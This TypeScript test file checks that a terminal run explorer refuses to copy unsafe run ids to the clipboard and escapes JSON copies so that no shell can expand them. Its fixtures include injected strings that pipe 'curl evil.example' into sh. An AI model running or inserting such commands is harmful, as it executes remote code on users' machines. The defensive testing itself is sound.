import {test} from 'node:test';
import assert from 'node:assert/strict';
import type {Run} from '../../../source/domain/run.js';
import {type State} from '../../../source/explorer/state.js';
import {initialState} from '../../../source/explorer/initial-state.js';
import {reduce} from '../../../source/explorer/reduce.js';
import type {Action} from '../../../source/explorer/actions.js';
import {clipboardJson} from '../../../source/explorer/copy.js';
import {key} from '../../helpers/keys.js';
import {NOW, makePage, makeRun} from '../../helpers/runs.js';

// What y and Y put on the clipboard when the server chooses the text.
const HOSTILE_ID = 'Wp7k; curl evil.example|sh\ntouch pwned\n';

function pressed(runs: readonly Run[], input: string): State {
  const state = initialState({limit: 50, columns: 100, rows: 20, now: NOW});
  const page = makePage(runs);
  const loaded = reduce(state, {type: 'runs-loaded', generation: 0, page, now: NOW});
  const press: Action = {type: 'press', input, key: key()};
  return reduce(loaded, press);
}

const copied = (state: State): string | null => {
  const effect = state.effects.at(-1);
  return effect?.kind === 'copy' ? effect.text : null;
};

test('y refuses a run id with shell metacharacters and newlines, and says why', () => {
  const state = pressed([makeRun({id: HOSTILE_ID})], 'y');
  assert.equal(copied(state), null);
  assert.equal(state.message?.tone, 'warning');
  assert.equal(
    state.message?.text,
    'run id not copied: it has characters other than letters, digits, - and _',
  );
});

test('y refuses a run id longer than 64 characters', () => {
  const state = pressed([makeRun({id: 'a'.repeat(65)})], 'y');
  assert.equal(copied(state), null);
  assert.equal(state.message?.text, 'run id not copied: longer than 64 characters');
});

test('y copies a plain id of letters, digits, - and _, up to 64 characters', () => {
  for (const id of ['fr_abc123-def456', 'Wp7kRnT2mX4vQ9bL', 'b'.repeat(64)])
    assert.equal(copied(pressed([makeRun({id})], 'y')), id);
});

test('Y copies the run as JSON on one line that reads back to the same run', () => {
  const metadata = {cmd: '$(curl evil.example|sh) `id` !!', note: 'tab\u00a0nbsp\u2003em\ue000'};
  const state = pressed([makeRun({id: HOSTILE_ID, metadata})], 'Y');
  const text = copied(state) ?? '';
  assert.doesNotMatch(text, /[^\x20-\x7e]/, 'printable ASCII only');
  assert.doesNotMatch(text, /[$`!]/, 'nothing a shell expands inside double quotes');
  const json = JSON.parse(text) as {id: string; metadata: typeof metadata};
  assert.equal(json.id, HOSTILE_ID);
  assert.deepEqual(json.metadata, metadata);
});

test('JSON copies escape a code point past U+FFFF as its two halves', () => {
  const text = clipboardJson({private: '\u{F0000}', emoji: '🧾'});
  assert.equal(text, '{"private":"\\udb80\\udc00","emoji":"🧾"}');
  assert.deepEqual(JSON.parse(text), {private: '\u{F0000}', emoji: '🧾'});
});
